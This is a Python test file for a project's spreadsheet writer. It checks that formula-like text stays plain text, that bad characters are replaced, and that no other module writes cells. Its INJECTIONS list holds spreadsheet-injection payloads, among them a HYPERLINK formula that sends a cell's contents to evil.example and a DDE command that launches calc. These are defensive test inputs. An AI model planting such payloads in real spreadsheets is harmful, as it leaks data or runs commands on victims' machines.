"""The one writer of spreadsheets (core/spreadsheet.py): text never becomes a formula, no
character makes writing fail, numbers stay numbers; and nothing else in fazhi writes cells."""

import ast
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fazhi.core import spreadsheet
from fazhi.core.spreadsheet import FORMULA_STARTS, Book, cell_text, csv_safe, sheet_title

FAST = settings(
    max_examples=150,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)

# Formulas and look-alikes a spreadsheet would run or show as an error instead of the text.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&B3,"查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+1",
    "@A1",
    "＝1+1",
    "=1",
    "#REF!",
    "#N/A",
    "=",
]


def read_back(data: bytes, title: str | None = None):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return book[title] if title else book.worksheets[0]


@pytest.mark.parametrize("streaming", [False, True], ids=["workbook", "streaming"])
def test_injected_text_is_a_string_cell_in_both_kinds_of_book(streaming):
    with Book(streaming=streaming) as book:
        sheet = book.sheet("注入")
        for text in INJECTIONS:
            sheet.add_row([text, 3, Decimal("12.50")])
        data = book.save()
    rows = list(read_back(data).iter_rows())
    assert [(row[0].data_type, row[0].value) for row in rows] == [("s", t) for t in INJECTIONS]
    assert {(row[1].data_type, row[1].value, row[2].value) for row in rows} == {("n", 3, 12.5)}


def test_write_puts_text_numbers_dates_and_booleans_as_what_they_are():
    book = Book()
    sheet = book.sheet("类型")
    day = datetime.date(2024, 3, 5)
    for column, value in enumerate(["=1+1", 7, 1.5, Decimal("2"), day, True, None], start=1):
        sheet.write(1, column, value)
    written = read_back(book.save())
    cells = [written.cell(1, column) for column in range(1, 8)]
    assert [c.data_type for c in cells[:6]] == ["s", "n", "n", "n", "d", "b"]
    assert [c.value for c in cells] == [
        "=1+1",
        7,
        1.5,
        2,
        datetime.datetime(2024, 3, 5),
        True,
        None,
    ]


def test_an_aware_time_is_written_as_local_time_not_refused():
    from django.utils import timezone

    moment = timezone.make_aware(datetime.datetime(2024, 3, 5, 9, 30))
    book = Book()
    book.sheet("时间").write(1, 1, moment)
    assert read_back(book.save())["A1"].value == datetime.datetime(2024, 3, 5, 9, 30)


@pytest.mark.parametrize("streaming", [False, True], ids=["workbook", "streaming"])
def test_characters_no_cell_may_hold_become_the_replacement_character(streaming):
    with Book(streaming=streaming, title="名单\x01") as book:
        sheet = book.sheet("名\x01单")
        sheet.add_row(["ab\x01cd", "\x00\x08\x0b\x1f\x7f\x85", "a\ufffeb\uffff", "x\ud800y"])
        data = book.save()
    sheet = read_back(data)
    assert sheet.title == "名\ufffd单"
    assert [c.value for c in sheet[1]] == ["ab\ufffdcd", "\ufffd" * 6, "a\ufffdb\ufffd", "x\ufffdy"]
    # Tab and line breaks are text people type: kept.
    assert cell_text("第一行\n第二行\t完") == "第一行\n第二行\t完"


def test_text_longer_than_a_cell_holds_is_cut_to_excels_limit():
    assert len(cell_text("字" * 40000)) == spreadsheet.MAX_CELL_CHARS


@given(st.text(alphabet=st.characters(exclude_categories=())))
@FAST
def test_any_text_at_all_is_written_and_read_back_as_its_printable_form(text):
    book = Book()
    book.sheet("任意").write(1, 1, text)
    cell = read_back(book.save())["A1"]
    expected = cell_text(text)
    if expected == "":
        assert cell.value is None
    else:
        assert (cell.data_type, cell.value) == ("s", expected)


def test_sheet_titles_are_always_valid():
    assert sheet_title("行政复议[2024]/审查:*?") == "行政复议_2024__审查___"
    assert sheet_title("'引号'") == "引号"
    assert sheet_title("") == "Sheet1"
    assert len(sheet_title("很长的名字" * 10)) == 31


def test_a_streaming_book_that_fails_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with pytest.raises(RuntimeError), Book(streaming=True) as book:
        sheet = book.sheet("中途失败")
        sheet.add_row(["张某", "110101199003071234"])
        raise RuntimeError("export interrupted")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_safe_quotes_every_formula_start_and_replaces_control_characters(start):
    assert csv_safe(start + "1") == "'" + start + "1"
    assert csv_safe("白果调〔2024〕1号") == "白果调〔2024〕1号"
    assert csv_safe("ab\x01cd") == "ab\ufffdcd"
    assert csv_safe(12) == 12


# --- the rule holds for the whole code base ------------------------------------------------

FAZHI = Path(spreadsheet.__file__).resolve().parent.parent
WRITER = Path(spreadsheet.__file__).resolve()
# What code outside the writer may take from openpyxl: styles and layout, and reading.
ALLOWED_OPENPYXL = {
    "openpyxl": {"load_workbook"},
    "openpyxl.styles": None,
    "openpyxl.comments": None,
    "openpyxl.utils": None,
    "openpyxl.worksheet.datavalidation": None,
}
SPREADSHEET = "fazhi.core.spreadsheet"
SHEETLIKE = re.compile(r"sheet|\bws\b|book|\braw\b|committees", re.IGNORECASE)


def writer_violations(source: str, name: str = "<source>") -> list[str]:
    """Where code writes spreadsheets behind the writer's back: creates a workbook or cells
    through openpyxl, appends to or fills a worksheet, or sets a cell's value or type."""
    tree = ast.parse(source)
    found = []
    # "x.value = …" is everyday Python; it counts only where the module handles spreadsheets.
    handles_sheets = any(
        (isinstance(n, ast.ImportFrom) and (n.module or "").startswith(("openpyxl", SPREADSHEET)))
        or (isinstance(n, ast.ImportFrom) and n.level and n.module == "spreadsheet")
        or (isinstance(n, ast.Import) and any(a.name.startswith("openpyxl") for a in n.names))
        for n in ast.walk(tree)
    )

    def at(node, what):
        found.append(f"{name}:{node.lineno}: {what}")

    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] == "openpyxl":
                    at(node, f"import {alias.name}")
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            allowed = ALLOWED_OPENPYXL.get(node.module, set())
            for alias in node.names:
                if allowed is not None and alias.name not in allowed:
                    at(node, f"from {node.module} import {alias.name}")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            receiver = ast.unparse(node.func.value)
            if node.func.attr == "append" and SHEETLIKE.search(receiver):
                at(node, f"{receiver}.append(...)")
            value_given = len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)
            if node.func.attr == "cell" and value_given:
                at(node, f"{receiver}.cell(..., value)")
        elif isinstance(node, ast.Assign | ast.AugAssign | ast.AnnAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and (
                    target.attr == "data_type" or (target.attr == "value" and handles_sheets)
                ):
                    at(node, f"{ast.unparse(target)} = ...")
                if isinstance(target, ast.Subscript) and SHEETLIKE.search(
                    ast.unparse(target.value)
                ):
                    at(node, f"{ast.unparse(target)} = ...")
    return found


def production_modules() -> list[Path]:
    return [
        path
        for path in sorted(FAZHI.rglob("*.py"))
        if "tests" not in path.relative_to(FAZHI).parts
        and path.name != "conftest.py"
        and "migrations" not in path.parts
        and path.resolve() != WRITER
    ]


def test_nothing_but_the_one_writer_writes_a_spreadsheet():
    modules = production_modules()
    assert len(modules) > 100  # the scan did find the code base
    violations = [
        problem
        for path in modules
        for problem in writer_violations(path.read_text(), str(path.relative_to(FAZHI)))
    ]
    assert violations == []


@pytest.mark.parametrize(
    "source",
    [
        "from openpyxl import Workbook",
        "import openpyxl",
        "from openpyxl.cell import WriteOnlyCell",
        "from openpyxl.worksheet.worksheet import Worksheet",
        "sheet.append([name, amount])",
        "committees.append([row['committee__name']])",
        "book.active.append(row)",
        "sheet.cell(2, 1, name)",
        "sheet.raw.cell(row=1, column=1, value=name)",
        "from fazhi.core.spreadsheet import Book\ncell.value = name",
        "cell.data_type = 'f'",
        "sheet['A1'] = name",
    ],
)
def test_the_scan_catches_each_way_around_the_writer(source):
    assert writer_violations(source)


def test_the_scan_lets_layout_and_reading_through():
    source = """
from openpyxl import load_workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
rows.append(1)
sheet.raw.cell(row=1, column=2).font = Font(bold=True)
sheet.raw.column_dimensions["A"].width = 12
"""
    assert writer_violations(source) == []
    # Outside spreadsheet code, an attribute called value is nobody's business here.
    source = "totals[key].value = 3"
    assert writer_violations(source) == []
